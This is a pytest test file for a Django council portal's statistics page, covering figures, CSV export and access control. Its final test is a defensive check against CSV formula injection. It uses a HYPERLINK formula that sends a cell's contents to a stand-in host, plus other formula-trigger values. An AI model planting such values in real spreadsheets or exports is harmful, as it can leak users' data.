import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from inquiries.models import Inquiry
from portal.statistics import percentile
from tests.factories import CommitteeFactory, DepartmentFactory, InquiryFactory, QuestionFactory, UserFactory
from tests.portal import answered_inquiry, approved_answer

pytestmark = pytest.mark.django_db


def test_percentile_interpolates():
    assert percentile([], 0.5) is None
    assert percentile([10], 0.9) == 10
    assert percentile([1, 2, 3, 4], 0.5) == 2.5
    assert percentile(list(range(1, 11)), 0.9) == pytest.approx(9.1)


def _world():
    today = timezone.localdate()
    committee = CommitteeFactory(name="Integrationsausschuss")
    for days in (10, 20, 40):  # the last is after the 28-day deadline
        received = today - timedelta(days=60)
        inquiry = answered_inquiry(
            committee=committee, received_on=received, due_on=received + timedelta(days=28)
        )
        inquiry.answered_on = received + timedelta(days=days)
        inquiry.save()
    finance = DepartmentFactory(code="20", name="Finanzen")
    open_inquiry = InquiryFactory(status=Inquiry.Status.IN_PROGRESS)
    QuestionFactory(inquiry=open_inquiry, lead_department=finance, due_on=today - timedelta(days=5))
    QuestionFactory(inquiry=open_inquiry, lead_department=finance, due_on=today + timedelta(days=5))
    done = QuestionFactory(inquiry=open_inquiry, lead_department=finance, due_on=today - timedelta(days=9))
    approved_answer(done, "fertig")
    return today


def test_statistics_figures_for_the_council_office(client, council_office):
    _world()
    client.force_login(council_office)
    response = client.get(reverse("portal:statistics"))
    assert response.status_code == 200
    ctx = response.context
    assert ctx["answered_count"] == 3
    assert ctx["median_days"] == 20
    assert ctx["on_time_count"] == 2 and ctx["with_deadline_count"] == 3
    (finance,) = ctx["departments"]
    assert (finance["open_questions"], finance["overdue_questions"], finance["days_late"]) == (2, 1, 5)
    content = response.content.decode()
    assert "<svg" in content and "<title" in content and "style=" not in content


def test_statistics_csv_has_the_same_figures(client, council_member):
    _world()
    client.force_login(council_member)
    response = client.get(reverse("portal:statistics"), {"format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert ["answer_time", "median_days", "20.0", "", ""] in rows
    # the approved answer has not been sent: outside the administration the question is open
    assert ["department_owes", "20", "3", "2", "9"] in rows


def test_statistics_csv_of_the_council_office_counts_approved_answers_as_done(client, council_office):
    _world()
    client.force_login(council_office)
    rows = list(
        csv.reader(io.StringIO(client.get(reverse("portal:statistics"), {"format": "csv"}).content.decode()))
    )
    assert ["department_owes", "20", "2", "1", "5"] in rows


def test_statistics_anonymous_redirected_and_user_without_a_role_gets_403(client):
    assert client.get(reverse("portal:statistics")).status_code == 302
    client.force_login(UserFactory())
    assert client.get(reverse("portal:statistics")).status_code == 403


def test_statistics_csv_cells_cannot_run_as_spreadsheet_formulas(client, council_office):
    """Names come from people and imports; a spreadsheet must show them, not run them."""
    today = timezone.localdate()
    committee = CommitteeFactory(name='=HYPERLINK("https://example.org/?"&A1,"Klick")')
    InquiryFactory(committee=committee, received_on=today)
    for code in ("+49", "-1", "@SUM(A1)", "\tTab", "\rCR"):
        department = DepartmentFactory(code=code)
        QuestionFactory(inquiry=InquiryFactory(status=Inquiry.Status.IN_PROGRESS), lead_department=department)
    client.force_login(council_office)
    rows = list(
        csv.reader(io.StringIO(client.get(reverse("portal:statistics"), {"format": "csv"}).content.decode()))
    )
    cells = [cell for row in rows for cell in row]
    assert f"'{today.year} =HYPERLINK" not in cells  # the year comes first: harmless as it is
    assert any(cell.startswith(f"{today.year} =HYPERLINK") for cell in cells)
    for code in ("+49", "-1", "@SUM(A1)", "\tTab", "\rCR"):
        assert f"'{code}" in cells, code
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
